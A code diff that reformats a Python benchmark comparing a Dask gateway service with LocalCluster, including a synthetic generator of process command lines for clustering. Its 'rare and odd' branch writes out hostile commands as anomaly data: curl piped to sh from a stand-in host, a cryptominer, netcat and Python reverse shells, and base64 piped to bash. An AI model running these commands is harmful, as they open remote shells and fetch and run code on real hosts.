@@ -65,8 +65,12 @@ class Hub:
     def __init__(self, root: Path, marker: str) -> None:
         self.data = root / "data"
         self.port = B.free_port()
-        self.env = {**os.environ, "LAKEHUB_LAKE_PORT": "0", "BENCH_MARK": marker,
-                    "LAKEHUB_ADMIN_PASSWORD": secrets.token_urlsafe(12)}  # fmt: skip
+        self.env = {
+            **os.environ,
+            "LAKEHUB_LAKE_PORT": "0",
+            "BENCH_MARK": marker,
+            "LAKEHUB_ADMIN_PASSWORD": secrets.token_urlsafe(12),
+        }
         self.env.pop("LAKEHUB_DATA_DIR", None)
         self.marker = marker
 
@@ -121,20 +125,22 @@ def bytecode_state(env_dir: Path) -> dict[str, int]:
     out = {}
     for pkg in ("dask", "distributed", "dask_gateway", "pandas", "tornado"):
         sources = list((site / pkg).rglob("*.py"))
-        cached = sum(1 for f in sources
-                     if list((f.parent / "__pycache__").glob(f"{f.stem}.*.pyc")))  # fmt: skip
+        cached = sum(1 for f in sources if list((f.parent / "__pycache__").glob(f"{f.stem}.*.pyc")))
         out[f"{pkg}: modules"], out[f"{pkg}: with bytecode"] = len(sources), cached
     return out
 
 
 def env_versions(python: Path) -> dict[str, str]:
-    code = ("import json, dask, distributed, sklearn, pandas, pyarrow, s3fs, sys; "
-            "print(json.dumps({m.__name__: m.__version__ for m in "
-            "(dask, distributed, sklearn, pandas, pyarrow, s3fs)} | "
-            "{'python': sys.version.split()[0]}))")  # fmt: skip
+    code = (
+        "import json, dask, distributed, sklearn, pandas, pyarrow, s3fs, sys; "
+        "print(json.dumps({m.__name__: m.__version__ for m in "
+        "(dask, distributed, sklearn, pandas, pyarrow, s3fs)} | "
+        "{'python': sys.version.split()[0]}))"
+    )
     # -B: writes no bytecode into the environment (see bytecode_state)
-    out = subprocess.run([str(python), "-B", "-c", code], capture_output=True, text=True,
-                         timeout=300)  # fmt: skip
+    out = subprocess.run(
+        [str(python), "-B", "-c", code], capture_output=True, text=True, timeout=300
+    )
     return json.loads(out.stdout) if out.returncode == 0 else {"error": out.stderr[-500:]}
 
 
@@ -169,8 +175,11 @@ c.ClusterConfig.environment = {{"PATH": {f"{dask_bin.parent}:/usr/local/bin:/usr
         with self.log.open("wb") as log:
             self.proc = subprocess.Popen(
                 [str(B.VENV_BIN / "dask-gateway-server"), "-f", str(self.dir / "config.py")],
-                cwd=self.dir, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
-            )  # fmt: skip
+                cwd=self.dir,
+                stdout=log,
+                stderr=subprocess.STDOUT,
+                start_new_session=True,
+            )
         url = f"http://127.0.0.1:{self.port}/api/health"
         if not B.wait_until(lambda: B.http_status(url) == 200, 60, 0.1):
             tail = self.log.read_text()[-2000:]
@@ -179,8 +188,7 @@ c.ClusterConfig.environment = {{"PATH": {f"{dask_bin.parent}:/usr/local/bin:/usr
     def gateway(self) -> Any:
         from dask_gateway import BasicAuth, Gateway
 
-        return Gateway(f"http://127.0.0.1:{self.port}",
-                       auth=BasicAuth("bench", self.password))  # fmt: skip
+        return Gateway(f"http://127.0.0.1:{self.port}", auth=BasicAuth("bench", self.password))
 
     def stop(self) -> None:
         if self.proc is not None:
@@ -190,16 +198,21 @@ c.ClusterConfig.environment = {{"PATH": {f"{dask_bin.parent}:/usr/local/bin:/usr
 # ------------------------------------------------------------------------------ helpers
 def cluster_procs(marker: str) -> list[tuple[int, str]]:
     """Marked scheduler and worker processes (gateway clusters, LocalCluster's spawned ones)."""
-    return [(pid, cmd) for pid, cmd in B.leftovers(marker)
-            if " scheduler" in cmd or " worker" in cmd or "spawn_main" in cmd]  # fmt: skip
+    return [
+        (pid, cmd)
+        for pid, cmd in B.leftovers(marker)
+        if " scheduler" in cmd or " worker" in cmd or "spawn_main" in cmd
+    ]
 
 
 def wait_clusters_gone(marker: str, label: str, problems: list[str]) -> None:
     """Wait (bounded) until a run's scheduler and workers are gone; kill and report stragglers."""
     if not B.wait_until(lambda: not cluster_procs(marker), 60, 0.1):
         left = cluster_procs(marker)
-        problems.append(f"{label}: cluster processes still there after 60 s: "
-                        + "; ".join(c[:120] for _, c in left))  # fmt: skip
+        problems.append(
+            f"{label}: cluster processes still there after 60 s: "
+            + "; ".join(c[:120] for _, c in left)
+        )
         for pid, _ in left:
             with contextlib.suppress(ProcessLookupError, PermissionError):
                 os.kill(pid, signal.SIGKILL)
@@ -226,8 +239,9 @@ def added_worker_at(client: Any) -> float | None:
         events = client.get_events("all")
     except Exception:  # noqa: BLE001 (a breakdown detail, never a failure)
         return None
-    times = [ts for ts, msg in events
-             if isinstance(msg, dict) and msg.get("action") == "add-worker"]  # fmt: skip
+    times = [
+        ts for ts, msg in events if isinstance(msg, dict) and msg.get("action") == "add-worker"
+    ]
     return min(times) if times else None
 
 
@@ -367,9 +381,14 @@ def first_local() -> tuple[float, dict[str, float], Any]:
 
     marks: dict[str, float] = {}
     w0, t0 = time.time(), time.perf_counter()
-    cluster = LocalCluster(n_workers=1, processes=True, threads_per_worker=1,
-                           memory_limit="2GiB", host="127.0.0.1",
-                           dashboard_address="127.0.0.1:0")  # fmt: skip
+    cluster = LocalCluster(
+        n_workers=1,
+        processes=True,
+        threads_per_worker=1,
+        memory_limit="2GiB",
+        host="127.0.0.1",
+        dashboard_address="127.0.0.1:0",
+    )
     marks["cluster"] = time.time()
     client = Client(cluster, set_as_default=False)
     marks["connected"] = time.time()
@@ -490,8 +509,18 @@ def command_lines(n: int, seed: int) -> list[str]:
     import numpy as np
 
     rng = np.random.default_rng(seed)
-    kinds = ["kernel", "daemon", "python", "java", "bash", "node", "shim", "postgres", "user",
-             "odd"]  # fmt: skip
+    kinds = [
+        "kernel",
+        "daemon",
+        "python",
+        "java",
+        "bash",
+        "node",
+        "shim",
+        "postgres",
+        "user",
+        "odd",
+    ]
     p = np.array([0.14, 0.16, 0.22, 0.12, 0.12, 0.05, 0.06, 0.06, 0.065, 0.005])
     kind = rng.choice(len(kinds), size=n, p=p / p.sum())
     app = _zipf(rng, len(APPS), n)
@@ -509,9 +538,15 @@ def command_lines(n: int, seed: int) -> list[str]:
         a, u, k = APPS[app[i]], USERS[user[i]], kinds[kind[i]]
         h, d, pt, m = hexes[i % 2048], int(day[i]), int(port[i]), int(mem[i])
         if k == "kernel":
-            out.append(["[kworker/{}:{}-events]", "[ksoftirqd/{}]", "[migration/{}]",
-                        "[jbd2/sda{}-8]", "[kworker/u{}:{}-writeback]"][num[i] % 5]
-                       .format(num[i] % 2, num[i]))  # fmt: skip
+            out.append(
+                [
+                    "[kworker/{}:{}-events]",
+                    "[ksoftirqd/{}]",
+                    "[migration/{}]",
+                    "[jbd2/sda{}-8]",
+                    "[kworker/u{}:{}-writeback]",
+                ][num[i] % 5].format(num[i] % 2, num[i])
+            )
         elif k == "daemon":
             out.append(DAEMONS[daemon[i]])
         elif k == "python":
@@ -525,55 +560,77 @@ def command_lines(n: int, seed: int) -> list[str]:
                 "uvicorn": f"{a}.main:app --host 127.0.0.1 --port {pt} --proxy-headers",
                 "jupyter": f"lab --no-browser --port={pt} --notebook-dir=/home/{u}",
                 "ipykernel_launcher": f"-f /home/{u}/.local/share/jupyter/runtime/kernel-{h[:8]}-"
-                                      f"{h[8:12]}-{h[12:16]}.json",
+                f"{h[8:12]}-{h[12:16]}.json",
                 "venv": f"/opt/venvs/{a}",
                 "json.tool": f"/var/lib/{a}/state.json",
                 "unittest": f"discover -s /srv/{a}/tests -p 'test_*.py'",
                 "myapp.cli": f"--config /etc/{a}/{a}.yaml sync --since 2026-11-{d:02d}",
-            }[mm]  # fmt: skip
+            }[mm]
             py = ["/usr/bin/python3", "python3", f"/opt/venvs/{a}/bin/python"][num[i] % 3]
             out.append(f"{py} -m {mm} {args}")
         elif k == "java":
             main = JAVA_MAIN[jmain[i]].format(app=a.replace("-", ""))
-            out.append(f"java -Xmx{m}g -Xms{max(m // 2, 1)}g -XX:+UseG1GC "
-                       f"-XX:MaxGCPauseMillis={(num[i] % 4 + 1) * 50} "
-                       f"-Dlog4j.configurationFile=/etc/{a}/log4j2.xml "
-                       f"-cp /opt/{a}/lib/*:/opt/{a}/conf {main} "
-                       f"--config /etc/{a}/{a}.properties")  # fmt: skip
+            out.append(
+                f"java -Xmx{m}g -Xms{max(m // 2, 1)}g -XX:+UseG1GC "
+                f"-XX:MaxGCPauseMillis={(num[i] % 4 + 1) * 50} "
+                f"-Dlog4j.configurationFile=/etc/{a}/log4j2.xml "
+                f"-cp /opt/{a}/lib/*:/opt/{a}/conf {main} "
+                f"--config /etc/{a}/{a}.properties"
+            )
         elif k == "bash":
-            out.append("bash -c '" + [
-                f"tar czf /backup/{a}-2026-11-{d:02d}.tar.gz /var/lib/{a}",
-                f"find /var/log/{a} -name '*.log' -mtime +{num[i] % 30} -delete",
-                f"cd /srv/{a} && git pull --ff-only && make deploy",
-                f"pg_dump -U {u} {a} | gzip > /backup/{a}-2026-11-{d:02d}.sql.gz",
-                f"rsync -az --delete /data/{a}/ backup{num[i] % 4}:/data/{a}/",
-                f"while true; do sleep {num[i]}; done",
-                f"curl -fsS http://127.0.0.1:{pt}/health || systemctl restart {a}",
-                f"/opt/{a}/bin/rotate-logs.sh --keep {num[i] % 10 + 1}",
-            ][(app[i] + num[i]) % 8] + "'")  # fmt: skip
+            out.append(
+                "bash -c '"
+                + [
+                    f"tar czf /backup/{a}-2026-11-{d:02d}.tar.gz /var/lib/{a}",
+                    f"find /var/log/{a} -name '*.log' -mtime +{num[i] % 30} -delete",
+                    f"cd /srv/{a} && git pull --ff-only && make deploy",
+                    f"pg_dump -U {u} {a} | gzip > /backup/{a}-2026-11-{d:02d}.sql.gz",
+                    f"rsync -az --delete /data/{a}/ backup{num[i] % 4}:/data/{a}/",
+                    f"while true; do sleep {num[i]}; done",
+                    f"curl -fsS http://127.0.0.1:{pt}/health || systemctl restart {a}",
+                    f"/opt/{a}/bin/rotate-logs.sh --keep {num[i] % 10 + 1}",
+                ][(app[i] + num[i]) % 8]
+                + "'"
+            )
         elif k == "node":
-            out.append([f"node /srv/{a}/dist/server.js --port {pt}",
-                        f"npm run start --prefix /srv/{a}",
-                        f"node /usr/lib/node_modules/pm2/bin/pm2 start /srv/{a}/pm2.config.js"]
-                       [num[i] % 3])  # fmt: skip
+            out.append(
+                [
+                    f"node /srv/{a}/dist/server.js --port {pt}",
+                    f"npm run start --prefix /srv/{a}",
+                    f"node /usr/lib/node_modules/pm2/bin/pm2 start /srv/{a}/pm2.config.js",
+                ][num[i] % 3]
+            )
         elif k == "shim":
-            out.append(f"/usr/bin/containerd-shim-runc-v2 -namespace moby -id {h} "
-                       "-address /run/containerd/containerd.sock")  # fmt: skip
+            out.append(
+                f"/usr/bin/containerd-shim-runc-v2 -namespace moby -id {h} "
+                "-address /run/containerd/containerd.sock"
+            )
         elif k == "postgres":
             state = ["idle", "SELECT", "idle in transaction", "COMMIT"][num[i] % 4]
             out.append(f"postgres: 15/main: {u} {a.replace('-', '_')} 127.0.0.1({pt}) {state}")
         elif k == "user":
-            out.append([f"ssh -o StrictHostKeyChecking=no {u}@{a}-{num[i] % 8} uptime",
-                        f"vim /etc/{a}/{a}.conf", "top -b -n 1", "ps aux --sort=-%cpu",
-                        f"grep -r ERROR /var/log/{a}", f"less /var/log/{a}/{a}.log",
-                        f"kubectl -n {a} logs deploy/{a} --tail=200"][num[i] % 7])  # fmt: skip
+            out.append(
+                [
+                    f"ssh -o StrictHostKeyChecking=no {u}@{a}-{num[i] % 8} uptime",
+                    f"vim /etc/{a}/{a}.conf",
+                    "top -b -n 1",
+                    "ps aux --sort=-%cpu",
+                    f"grep -r ERROR /var/log/{a}",
+                    f"less /var/log/{a}/{a}.log",
+                    f"kubectl -n {a} logs deploy/{a} --tail=200",
+                ][num[i] % 7]
+            )
         else:  # rare and odd: what the clustering is meant to find
-            out.append([f"bash -c 'curl -s http://{h[:6]}.example/x.sh | sh'",
-                        f"/tmp/.{h[:6]}/kdevtmpfsi -B -o stratum+tcp://pool.example:{pt}",
-                        f"nc -e /bin/sh 192.0.2.{num[i]} {pt}",
-                        f"python3 -c 'import socket,os,pty;s=socket.socket();"
-                        f"s.connect((\"192.0.2.{num[i]}\",{pt}));pty.spawn(\"/bin/sh\")'",
-                        f"echo {h[:40]} | base64 -d | bash"][num[i] % 5])  # fmt: skip
+            out.append(
+                [
+                    f"bash -c 'curl -s http://{h[:6]}.example/x.sh | sh'",
+                    f"/tmp/.{h[:6]}/kdevtmpfsi -B -o stratum+tcp://pool.example:{pt}",
+                    f"nc -e /bin/sh 192.0.2.{num[i]} {pt}",
+                    f"python3 -c 'import socket,os,pty;s=socket.socket();"
+                    f's.connect(("192.0.2.{num[i]}",{pt}));pty.spawn("/bin/sh")\'',
+                    f"echo {h[:40]} | base64 -d | bash",
+                ][num[i] % 5]
+            )
     return out
 
 
@@ -592,13 +649,15 @@ def write_data(creds: Any, prefix: str, rows: int) -> int:
         lines = command_lines(n, SEED + part)
         start = np.datetime64("2026-11-01T00:00:00", "ms")
         offsets = np.sort(rng.integers(0, 21 * 86400_000, size=n)).astype("timedelta64[ms]")
-        table = pa.table({
-            "ts": start + offsets,
-            "host": [f"node-{x:03d}" for x in rng.integers(0, 120, size=n)],
-            "user": [USERS[x] for x in _zipf(rng, len(USERS), n)],
-            "pid": rng.integers(2, 4_000_000, size=n).astype("int32"),
-            "cmdline": lines,
-        })  # fmt: skip
+        table = pa.table(
+            {
+                "ts": start + offsets,
+                "host": [f"node-{x:03d}" for x in rng.integers(0, 120, size=n)],
+                "user": [USERS[x] for x in _zipf(rng, len(USERS), n)],
+                "pid": rng.integers(2, 4_000_000, size=n).astype("int32"),
+                "cmdline": lines,
+            }
+        )
         path = f"{prefix}/part-{part:03d}.parquet"
         with fs.open(path, "wb") as f:
             pq.write_table(table, f)
@@ -612,8 +671,12 @@ def write_data(creds: Any, prefix: str, rows: int) -> int:
 def hash_counts(lines: Any) -> Any:
     from sklearn.feature_extraction.text import HashingVectorizer
 
-    hv = HashingVectorizer(n_features=N_FEATURES, token_pattern=r"(?u)[A-Za-z_][\w.-]+",
-                           alternate_sign=False, norm=None)  # fmt: skip
+    hv = HashingVectorizer(
+        n_features=N_FEATURES,
+        token_pattern=r"(?u)[A-Za-z_][\w.-]+",
+        alternate_sign=False,
+        norm=None,
+    )
     return hv.transform(lines.tolist()).tocsr()
 
 
@@ -656,8 +719,9 @@ def assign(x: Any, centres: Any) -> tuple[Any, Any, float]:
     d = xsq[:, None] - 2 * np.asarray(x @ centres.T) + (centres**2).sum(axis=1)[None, :]
     labels = d.argmin(axis=1)
     inertia = float(np.maximum(d[np.arange(len(labels)), labels], 0).sum())
-    onehot = sp.csr_matrix((np.ones(len(labels)), (labels, np.arange(len(labels)))),
-                           shape=(k, x.shape[0]))  # fmt: skip
+    onehot = sp.csr_matrix(
+        (np.ones(len(labels)), (labels, np.arange(len(labels)))), shape=(k, x.shape[0])
+    )
     return np.asarray((onehot @ x).todense()), np.bincount(labels, minlength=k), inertia
 
 
@@ -710,9 +774,15 @@ def workload(client: Any, url: str, storage_options: dict[str, Any]) -> dict[str
         per_k[k] = time.perf_counter() - tk
     total = time.perf_counter() - t0
     del xs, samples, centres, partials, last  # released (their keys are never reused)
-    return {"rows": rows, "seconds": total, "vectorise_seconds": t_vec - t0,
-            "kmeans_seconds": total - (t_vec - t0), "per_k_seconds": per_k,
-            "inertia": inertia, "rows_per_s": rows / total}  # fmt: skip
+    return {
+        "rows": rows,
+        "seconds": total,
+        "vectorise_seconds": t_vec - t0,
+        "kmeans_seconds": total - (t_vec - t0),
+        "per_k_seconds": per_k,
+        "inertia": inertia,
+        "rows_per_s": rows / total,
+    }
 
 
 def warm(client: Any) -> None:
@@ -812,8 +882,10 @@ def main() -> int:
         print(f"dask benchmark: {args.runs} runs, {args.rows} rows, data in {root}", flush=True)
         hub.up()
         env_dir = hub.wait_dask_environment()
-        versions = {"dask environment": env_versions(env_dir / "bin" / "python"),
-                    "benchmark process": env_versions(Path(sys.executable))}  # fmt: skip
+        versions = {
+            "dask environment": env_versions(env_dir / "bin" / "python"),
+            "benchmark process": env_versions(Path(sys.executable)),
+        }
         print(f"  versions: {json.dumps(versions)}", flush=True)
         with contextlib.suppress(OSError, StopIteration):
             bytecode = bytecode_state(env_dir)
@@ -882,9 +954,14 @@ def main() -> int:
 
         lh = lakehub.compute.dask(workers=2, client=sdk)
         lh.wait_for_workers(2, timeout=120)
-        local_cluster = LocalCluster(n_workers=2, processes=True, threads_per_worker=1,
-                                     memory_limit="2GiB", host="127.0.0.1",
-                                     dashboard_address="127.0.0.1:0")  # fmt: skip
+        local_cluster = LocalCluster(
+            n_workers=2,
+            processes=True,
+            threads_per_worker=1,
+            memory_limit="2GiB",
+            host="127.0.0.1",
+            dashboard_address="127.0.0.1:0",
+        )
         local = Client(local_cluster, set_as_default=False)
         try:
             clients = [("LakeHub", lh), ("LocalCluster", local)]
@@ -926,9 +1003,15 @@ def main() -> int:
     print("\nrequest to first result: seconds from the request to the first result")
     cols = ["median", "min", "max"]
     lh_s, raw_s, loc_s = (B.summary(first[s]) for s in FIRST_STEPS)
-    rows = [[label, str(s["n"]), *(B.fmt(s[c]) for c in cols),
-             B.fmt(B.ratio(lh_s["median"], s["median"]), "x") if label != "LakeHub" else ""]
-            for label, s in zip(FIRST_STEPS, (lh_s, raw_s, loc_s), strict=True)]  # fmt: skip
+    rows = [
+        [
+            label,
+            str(s["n"]),
+            *(B.fmt(s[c]) for c in cols),
+            B.fmt(B.ratio(lh_s["median"], s["median"]), "x") if label != "LakeHub" else "",
+        ]
+        for label, s in zip(FIRST_STEPS, (lh_s, raw_s, loc_s), strict=True)
+    ]
     print(B.table(["", "n", *cols, "LakeHub/this"], rows))
     print(f"goal: LakeHub <= 1.50 s (median {B.fmt(lh_s['median'], ' s')})")
 
@@ -942,9 +1025,11 @@ def main() -> int:
         print(B.table(["step", "median", "n"], srows))
     phases = {}
     for label in ("LakeHub", "raw gateway"):
-        ph: dict[str, list[float]] = {"request -> cluster running": [],
-                                      "cluster running -> first worker registered": [],
-                                      "first worker registered -> first result": []}  # fmt: skip
+        ph: dict[str, list[float]] = {
+            "request -> cluster running": [],
+            "cluster running -> first worker registered": [],
+            "first worker registered -> first result": [],
+        }
         for m in steps[label]:
             if {"running", "worker_added", "result"} <= m.keys():
                 ph["request -> cluster running"].append(m["running"])
@@ -956,10 +1041,20 @@ def main() -> int:
                 )
         phases[label] = {k: B.summary(v)["median"] for k, v in ph.items()}
     print("\nphases (medians, seconds)")
-    print(B.table(["phase", "LakeHub", "raw gateway", "LakeHub - raw"],
-                  [[k, B.fmt(phases["LakeHub"][k]), B.fmt(phases["raw gateway"][k]),
-                    B.fmt(phases["LakeHub"][k] - phases["raw gateway"][k])]
-                   for k in phases["LakeHub"]]))  # fmt: skip
+    print(
+        B.table(
+            ["phase", "LakeHub", "raw gateway", "LakeHub - raw"],
+            [
+                [
+                    k,
+                    B.fmt(phases["LakeHub"][k]),
+                    B.fmt(phases["raw gateway"][k]),
+                    B.fmt(phases["LakeHub"][k] - phases["raw gateway"][k]),
+                ]
+                for k in phases["LakeHub"]
+            ],
+        )
+    )
 
     print(
         f"\nworkload: TF-IDF ({N_FEATURES} hashed features) + k-means (k = "
@@ -968,9 +1063,14 @@ def main() -> int:
         "2 workers x 1 thread, 2 GiB each"
     )
     wl = {s: [x["rows_per_s"] for x in work[s]] for s in work}
-    print(B.table(["rows/s", "n", *cols],
-                  B.stats_rows("LakeHub cluster", wl["LakeHub"], "anchor: LocalCluster",
-                               wl["LocalCluster"], cols)))  # fmt: skip
+    print(
+        B.table(
+            ["rows/s", "n", *cols],
+            B.stats_rows(
+                "LakeHub cluster", wl["LakeHub"], "anchor: LocalCluster", wl["LocalCluster"], cols
+            ),
+        )
+    )
     pairs = zip(work["LakeHub"], work["LocalCluster"], strict=False)
     paired = B.summary([B.ratio(a["rows_per_s"], b["rows_per_s"]) for a, b in pairs])["median"]
     print(
@@ -978,22 +1078,31 @@ def main() -> int:
         " (throughput: above 1, LakeHub's cluster is faster)"
     )
     prow = []
-    for key, text in (("vectorise_seconds", "read + TF-IDF"), ("kmeans_seconds", "k-means sweep"),
-                      ("seconds", "total")):  # fmt: skip
+    for key, text in (
+        ("vectorise_seconds", "read + TF-IDF"),
+        ("kmeans_seconds", "k-means sweep"),
+        ("seconds", "total"),
+    ):
         a = B.summary([x[key] for x in work["LakeHub"]])["median"]
         b = B.summary([x[key] for x in work["LocalCluster"]])["median"]
         prow.append([text, B.fmt(a), B.fmt(b), B.fmt(B.ratio(a, b), "x")])
     print(B.table(["median seconds", "LakeHub", "LocalCluster", "ratio"], prow))
     if work["LakeHub"] and work["LocalCluster"]:
         ia, ib = work["LakeHub"][0]["inertia"], work["LocalCluster"][0]["inertia"]
-        print(B.table(["k", "inertia (LakeHub)", "inertia (LocalCluster)"],
-                      [[str(k), f"{ia[k]:.1f}", f"{ib[k]:.1f}"] for k in KS]))  # fmt: skip
+        print(
+            B.table(
+                ["k", "inertia (LakeHub)", "inertia (LocalCluster)"],
+                [[str(k), f"{ia[k]:.1f}", f"{ib[k]:.1f}"] for k in KS],
+            )
+        )
         for runs in work.values():
             for res in runs:
                 for k in KS:
                     if abs(res["inertia"][k] - ia[k]) > 1e-6 * max(1.0, abs(ia[k])):
-                        problems.append(f"inertia for k={k} differs between runs or sides: "
-                                        f"{res['inertia'][k]} vs {ia[k]}")  # fmt: skip
+                        problems.append(
+                            f"inertia for k={k} differs between runs or sides: "
+                            f"{res['inertia'][k]} vs {ia[k]}"
+                        )
                         break
     if bytecode:
         print(f"bytecode as built: {', '.join(f'{k} {v}' for k, v in bytecode.items())}")
@@ -1005,18 +1114,36 @@ def main() -> int:
     print("load average at each run: " + ", ".join(f"{x[0]:.2f}" for x in loads))
     print()
     total = B.print_footer(started, info, problems, "problems")
-    path = B.write_results("dask", {
-        "benchmark": "dask", "host": info, "args": vars(args), "versions": versions,
-        "loadavg_runs": loads, "first_result_seconds": first, "bytecode_as_built": bytecode,
-        "first_result_steps": steps,
-        "phases": phases, "workload": work, "data_bytes": data_bytes,
-        "workload_setup": {"parts": PARTS, "n_features": N_FEATURES, "ks": KS,
-                           "iterations": ITERATIONS, "sample_per_part": SAMPLE, "seed": SEED},
-        "problems": problems, "total_seconds": total,
-    })  # fmt: skip
+    path = B.write_results(
+        "dask",
+        {
+            "benchmark": "dask",
+            "host": info,
+            "args": vars(args),
+            "versions": versions,
+            "loadavg_runs": loads,
+            "first_result_seconds": first,
+            "bytecode_as_built": bytecode,
+            "first_result_steps": steps,
+            "phases": phases,
+            "workload": work,
+            "data_bytes": data_bytes,
+            "workload_setup": {
+                "parts": PARTS,
+                "n_features": N_FEATURES,
+                "ks": KS,
+                "iterations": ITERATIONS,
+                "sample_per_part": SAMPLE,
+                "seed": SEED,
+            },
+            "problems": problems,
+            "total_seconds": total,
+        },
+    )
     print(f"results: {path}")
     ok = all(len(first[s]) == args.runs for s in first) and all(
-        len(work[s]) == args.runs for s in work)  # fmt: skip
+        len(work[s]) == args.runs for s in work
+    )
     return 0 if ok and not problems else 1
 
 
